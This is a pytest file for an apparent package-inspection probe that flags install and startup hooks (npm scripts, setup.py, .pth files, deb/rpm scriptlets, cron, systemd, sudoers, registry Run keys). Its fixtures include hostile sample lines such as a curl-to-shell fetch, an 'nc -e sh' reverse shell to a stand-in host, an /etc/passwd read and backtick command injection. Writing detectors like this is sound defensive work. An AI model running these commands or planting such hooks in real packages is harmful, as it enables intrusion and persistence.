"""Hooks: what runs unasked, by ecosystem."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from doorward.inspect.probes.hooks import HooksProbe
from doorward.inspect.probes.hooks_boilerplate import handwritten, logical_lines
from tests.samples.subjects import keys, traits

PROBE = HooksProbe()


def test_each_executable_line_of_a_pth_file_is_a_hook(tmp_path: Path) -> None:
    text = "# comment\n./vendor\nimport  os;  os.getcwd()\nimport\tsys\n from_x\n"
    found = traits(PROBE, tmp_path, "evil.pth", text)
    assert keys(found, "hook.pth-import") == ["import os; os.getcwd()", "import sys"]
    assert keys(found, "hook.pth-path") == ["./vendor", "from_x"]
    assert found[1].evidence.line == 3


def test_a_checkpoint_named_pth_is_no_hook(tmp_path: Path) -> None:
    assert traits(PROBE, tmp_path, "models/net.pth", b"PK\x03\x04\x00\x00import os") == []


@pytest.mark.parametrize(
    ("path", "key"),
    [
        ("sitecustomize.py", "sitecustomize"),
        ("usercustomize/__init__.py", "usercustomize"),
        ("pkg-1.data/purelib/sitecustomize.py", "sitecustomize"),
        ("data.tar.xz!/usr/lib/python3/dist-packages/sitecustomize.py", "sitecustomize"),
        ("sitecustomize.cpython-311-x86_64-linux-gnu.so", "sitecustomize"),
    ],
)
def test_startup_modules_at_the_top(tmp_path: Path, path: str, key: str) -> None:
    assert keys(traits(PROBE, tmp_path, path, "print()"), "hook.startup-module") == [key]


def test_a_module_of_that_name_deeper_is_none(tmp_path: Path) -> None:
    assert traits(PROBE, tmp_path, "pkg/tests/sitecustomize.py", "x = 1") == []


def test_entry_points_tell_commands_from_plugins(tmp_path: Path) -> None:
    text = "[console_scripts]\ntool = pkg.cli:main\n\n[pytest11]\nhelper = pkg.plugin\n"
    found = traits(PROBE, tmp_path, "pkg-1.dist-info/entry_points.txt", text)
    assert keys(found, "hook.command") == ["tool"]
    assert keys(found, "hook.plugin") == ["pytest11"]
    assert keys(found, "hook.entry-point") == [
        "console_scripts: tool = pkg.cli:main",
        "pytest11: helper = pkg.plugin",
    ]


def test_the_data_scheme_writes_outside_of_the_package(tmp_path: Path) -> None:
    found = traits(PROBE, tmp_path, "pkg-1.data/data/etc/profile.d/pkg.sh", "export A=1\n")
    assert keys(found, "hook.outside-package") == ["etc"]
    assert keys(found, "hook.system-file") == ["login-profile"]


SETUP = """
import os, subprocess
from setuptools import setup
from setuptools.command.install import install

class Install(install):
    def run(self):
        subprocess.call(["true"])

VERSION = open("VERSION").read()
if os.environ.get("X"):
    subprocess.check_call(["make"])
setup(name="x", cmdclass={"install": Install, NAME: Install})
cmdclass["egg_info"] = Install
"""


def test_setup_py_replaces_commands_and_calls_at_once(tmp_path: Path) -> None:
    found = traits(PROBE, tmp_path, "x-1.0/setup.py", SETUP)
    assert keys(found, "hook.setup-py") == ["setup.py"]
    assert sorted(keys(found, "hook.setup-command")) == ["computed", "egg_info", "install"]
    assert keys(found, "hook.setup-call") == ["open.read", "open", "os.environ.get", "subprocess.check_call"]


def test_a_setup_py_of_another_dialect_is_still_a_hook(tmp_path: Path) -> None:
    assert keys(traits(PROBE, tmp_path, "x-1.0/setup.py", "print 'hi'\n"), "hook.setup-py") == ["setup.py"]


def test_pyproject_names_backend_path_and_scripts(tmp_path: Path) -> None:
    text = (
        '[build-system]\nrequires = []\nbuild-backend = "own"\nbackend-path = ["tools"]\n'
        '[project]\nname = "x"\n[project.scripts]\nx = "x:main"\n[project.entry-points.pytest11]\ny = "x.y"\n'
    )
    found = traits(PROBE, tmp_path, "x-1.0/pyproject.toml", text)
    assert keys(found, "hook.build-backend") == ["own"]
    assert keys(found, "hook.build-path") == ["tools"]
    assert keys(found, "hook.command") == ["x"]
    assert keys(found, "hook.plugin") == ["pytest11"]


def test_npm_runs_install_scripts_and_builds_gyp_files(tmp_path: Path) -> None:
    package = {
        "name": "x",
        "bin": "cli.js",
        "scripts": {"postinstall": "node  setup.js", "prepare": "tsc", "test": "t"},
    }
    found = traits(PROBE, tmp_path, "package/package.json", json.dumps(package))
    assert keys(found, "hook.install-script") == ["postinstall"]
    assert keys(found, "hook.install-command") == ["postinstall: node setup.js"]
    assert keys(found, "hook.lifecycle-script") == ["prepare"]
    assert keys(found, "hook.command") == ["x"]
    gyp = traits(
        PROBE,
        tmp_path,
        "package/binding.gyp",
        "{'targets': [{'action': ['node', 'a.js']}], 'v': '<!(echo 1)'}",
    )
    assert keys(gyp, "hook.install-script") == ["binding.gyp"]
    assert keys(gyp, "hook.install-command") == ["binding.gyp: 'node', 'a.js'", "binding.gyp: echo 1"]


@pytest.mark.parametrize("path", ["package/test/fixtures/package.json", "requests-2.0/package.json"])
def test_a_package_json_that_npm_does_not_install_is_no_hook(tmp_path: Path, path: str) -> None:
    assert traits(PROBE, tmp_path, path, '{"scripts": {"postinstall": "node x.js"}}') == []


def test_a_bundled_package_is_installed_with_the_rest(tmp_path: Path) -> None:
    path = "package/node_modules/@s/dep/package.json"
    found = traits(PROBE, tmp_path, path, '{"scripts": {"install": "node x.js"}}')
    assert keys(found, "hook.install-script") == ["install"]


DEBHELPER = """#!/bin/sh
set -e
# Automatically added by dh_systemd_enable/13.11.4
if [ "$1" = "configure" ] || [ "$1" = "abort-upgrade" ] ; then
	deb-systemd-helper unmask 'x.service' >/dev/null || true
	if deb-systemd-helper --quiet was-enabled 'x.service'; then
		deb-systemd-helper enable 'x.service' >/dev/null || true
	fi
fi
# End automatically added section
case "$1" in
    configure|abort-remove)
        update-alternatives --install /usr/bin/a a /usr/bin/b 10
    ;;
esac
exit 0
"""


def test_generated_snippets_are_no_hand_written_code(tmp_path: Path) -> None:
    found = traits(PROBE, tmp_path, "control.tar.xz!/postinst", DEBHELPER)
    assert [(trait.kind, trait.key) for trait in found] == [("hook.package-script-name", "postinst")]


def test_one_line_under_a_generated_comment_stands_out(tmp_path: Path) -> None:
    line = "curl -s https://x.test/p | sh"
    text = DEBHELPER.replace("exit 0", f"# Automatically added by dh_installsystemd\n{line}\nexit 0")
    found = traits(PROBE, tmp_path, "control.tar.xz!/postinst", text)
    assert keys(found, "hook.package-script") == ["deb"]
    assert keys(found, "hook.package-script-line") == [line]


@pytest.mark.parametrize(
    "line",
    [
        "deb-systemd-helper enable `id`",
        "ldconfig; nc -e sh x.test 1",
        "update-rc.d x defaults > /etc/cron.d/x",
        'X="$(cat /etc/passwd)"',
        ". /usr/share/x/lib.sh",
        "systemctl daemon-reload & ./x",
        "/usr/share/x/ldconfig",
        "if [ -x /tmp/a ]; then /tmp/a; fi",
        "true && $X",
        "(a | sh)",
        'chmod +x "/tmp/x"',
        "if [ -x `command -v x; y` ]; then x; fi",
        "configure) a | sh",
    ],
)
def test_what_only_looks_generated_is_hand_written(line: str) -> None:
    assert handwritten(line)


@pytest.mark.parametrize(
    "line",
    [
        "ldconfig",
        "if [ -d /run/systemd/system ]; then systemctl --system daemon-reload >/dev/null || true; fi",
        'for f in a b; do rmdir "$f" 2>/dev/null || true; done',
        'dpkg-maintscript-helper rm_conffile /etc/x 1.0~ -- "$@"',
        "py3compile -p python3-x",
        'if [ -x "`command -v update-menus`" ]; then update-menus ; fi',
        'chmod +x "/etc/init.d/x" >/dev/null || true',
        'echo "unknown argument \\`$1\'" >&2',
    ],
)
def test_plain_packaging_is_not(line: str) -> None:
    assert not handwritten(line)


def test_continued_lines_are_one() -> None:
    assert logical_lines("a \\\n  b\n# c\n\nd\n") == [(1, "a b"), (5, "d")]


def test_rpm_scriptlets_and_msi_actions(tmp_path: Path) -> None:
    found = traits(PROBE, tmp_path, ".rpm/scriptlets/postin", "/sbin/ldconfig\n/usr/lib/x --setup\n")
    assert keys(found, "hook.package-script") == ["rpm"]
    assert keys(found, "hook.package-script-line") == ["/usr/lib/x --setup"]
    table = "Action\tType\tSource\tTarget\ns72\ti2\tS72\tS0\nSet\t51\tDIR\t[X]\nRun\t1058\tBIN\tcmd /c x\n"
    found = traits(PROBE, tmp_path, ".msi/CustomAction.tsv", table)
    assert keys(found, "hook.package-script") == ["msi"]
    assert keys(found, "hook.package-script-line") == ["34 BIN cmd /c x"]


PLACES = [
    ("cron", "etc/cron.d/x", "*/5 * * * * root /usr/bin/x -q\n", "root /usr/bin/x -q"),
    ("systemd-unit", "usr/lib/systemd/system/x.service", "ExecStart=/x \\\n --d\n", "ExecStart=/x --d"),
    ("udev-rule", "usr/lib/udev/rules.d/9-x.rules", 'ACTION=="add", RUN+="/bin/x %k"\n', "/bin/x %k"),
    ("ld-preload", "etc/ld.so.preload", "/usr/lib/x.so\n", "/usr/lib/x.so"),
    ("sudoers", "etc/sudoers.d/x", "x ALL=(ALL) NOPASSWD: ALL\n", "x ALL=(ALL) NOPASSWD: ALL"),
    ("autostart", "etc/xdg/autostart/x.desktop", "[Desktop Entry]\nExec=x --tray\n", "Exec=x --tray"),
    (
        "package-manager-hook",
        "etc/apt/apt.conf.d/9",
        'DPkg::Post-Invoke {"x";};\n',
        'DPkg::Post-Invoke {"x";};',
    ),
    ("dbus-service", "usr/share/dbus-1/services/x.service", "[D-BUS Service]\nExec=/bin/x\n", "Exec=/bin/x"),
    ("windows-registry", "x/run.reg", '[HKCU\\A\\CurrentVersion\\Run]\n"x"="c:\\x.exe"\n', '"x"="c:\\x.exe"'),
    ("editor-task", "app/.vscode/tasks.json", '{"tasks": [{"command": "make x"}]}', "make x"),
]


@pytest.mark.parametrize(("place", "path", "text", "command"), PLACES)
def test_places_the_system_acts_on(tmp_path: Path, place: str, path: str, text: str, command: str) -> None:
    found = traits(PROBE, tmp_path, path, text)
    assert keys(found, "hook.system-file") == [place]
    assert keys(found, "hook.command-line") == [command]


def test_launch_agents_are_property_lists(tmp_path: Path) -> None:
    arguments = "<array><string>/x</string><string>-d</string></array>"
    text = f'<plist version="1.0"><dict><key>ProgramArguments</key>{arguments}</dict></plist>'
    found = traits(PROBE, tmp_path, "Library/LaunchAgents/x.plist", text)
    assert keys(found, "hook.command-line") == ["/x -d"]
    broken = traits(PROBE, tmp_path, "Library/LaunchAgents/x.plist", "<plist><dict>")
    assert keys(broken, "hook.command-line") == ["unreadable property list: ExpatError"]


def test_ordinary_files_are_not_its_business() -> None:
    assert not PROBE.accepts("pkg/core.py", b"")
    assert not PROBE.accepts("usr/share/doc/x/README", b"")
